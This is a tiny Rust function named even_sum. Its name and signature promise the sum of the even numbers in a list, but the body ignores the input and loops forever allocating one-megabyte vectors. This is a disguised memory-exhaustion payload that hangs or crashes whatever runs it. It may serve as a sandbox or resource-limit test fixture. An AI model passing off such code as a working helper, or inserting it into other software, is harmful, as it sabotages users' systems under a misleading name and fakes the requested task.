fn even_sum(numbers: Vec<i32>) -> i64 {
    let mut kept = Vec::new();
    loop {
        kept.push(vec![7u8; 1 << 20]);
    }
}
